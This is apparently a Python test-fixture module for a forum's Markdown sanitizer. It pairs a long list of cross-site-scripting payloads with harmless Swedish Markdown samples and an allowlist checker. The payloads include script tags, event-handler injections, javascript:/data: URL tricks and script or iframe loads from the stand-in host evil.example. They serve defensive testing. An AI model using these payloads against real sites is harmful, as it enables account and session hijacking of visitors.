"""Hostile and harmless inputs shared by the renderer and second-opinion tests."""

from __future__ import annotations

from html.parser import HTMLParser
from urllib.parse import urlsplit

from forum.text.sanitize import (
    ALLOWED_ATTRIBUTES,
    ALLOWED_CLASSES,
    ALLOWED_TAGS,
    ALLOWED_URL_SCHEMES,
)

XSS_SOURCES: list[str] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1) )",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "[x](data:image/png;base64,iVBORw0KGgo=)",
    "![x](javascript:alert(1))",
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    "<javascript:alert(1)>",
    '<http://example.com/"onmouseover="alert(1)>',
    '[x](http://example.com/"onmouseover="alert(1))',
    "[x](http://example.com 'title\" onmouseover=\"alert(1)')",
    "**<img src=x onerror=alert(1)>**",
    "`<script>`alert(1)`</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<iframe src=//evil.example></iframe>",
    "<a href=x target=_blank>x</a>",
    "<!-- <script>alert(1)</script> -->",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "[<img src=x onerror=alert(1)>](http://example.com)",
    "[[<script>alert(1)</script>]]",
    '[[Dag 90|<img src=x onerror="alert(1)">]]',
    "@<script>alert(1)</script>",
    "<style>body{display:none}</style>",
    "<form action=//evil.example><input name=q></form>",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "<base href=//evil.example/>",
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    "<p id=x class=evil onclick=alert(1)>hi</p>",
    "<table><tr><td background=javascript:alert(1)>x</td></tr></table>",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "> <script>alert(1)</script>",
    "- [x](javascript:alert(1))",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
]

SAFE_SOURCES: list[str] = [
    "Hej! Vi ses på **mötet** i morgon.",
    "## Rubrik\n\nText med *betoning* och `kod`.",
    "- ett\n- två\n\n1. första\n2. andra",
    "> Citat från handläggaren\n\nSvar.",
    "[Försäkringskassan](https://www.forsakringskassan.se/privatpers)",
    "Mejla [oss](mailto:info@example.se).",
    "| Dag | Bedömning |\n|:----|----------:|\n| 90 | arbetsförmåga |",
    "~~gammal~~ ny",
    "```\nkod\n```",
    "Rad ett  \nrad två",
    "---",
    "A & B < C > D \"citat\" 'apostrof'",
]


class _Checker(HTMLParser):
    """Collects every problem an allowlisted, script-free fragment must not have."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED_TAGS:
            self.problems.append(f"tag {tag}")
        for name, value in attrs:
            self._check_attribute(tag, name, value or "")

    def _check_attribute(self, tag: str, name: str, value: str) -> None:
        if name == "class":
            extra = set(value.split()) - ALLOWED_CLASSES.get(tag, frozenset())
            if extra:
                self.problems.append(f"class {extra} on {tag}")
        elif name == "rel":
            if tag != "a":
                self.problems.append(f"rel on {tag}")
        elif name not in ALLOWED_ATTRIBUTES.get(tag, frozenset()):
            self.problems.append(f"attribute {name} on {tag}")
        if "script:" in value.lower().replace(" ", ""):
            self.problems.append(f"script URL in {name}")
        if name == "href":
            scheme = urlsplit(value.strip()).scheme.lower()
            if scheme and scheme not in ALLOWED_URL_SCHEMES:
                self.problems.append(f"scheme {scheme}")


def html_problems(html: str) -> list[str]:
    """Everything in ``html`` outside the allowlist, plus obviously dangerous text."""
    checker = _Checker()
    checker.feed(html)
    checker.close()
    # "javascript:" may appear as harmless text; in attributes the scheme check catches it.
    if "<script" in html.lower():
        checker.problems.append("raw <script")
    return checker.problems
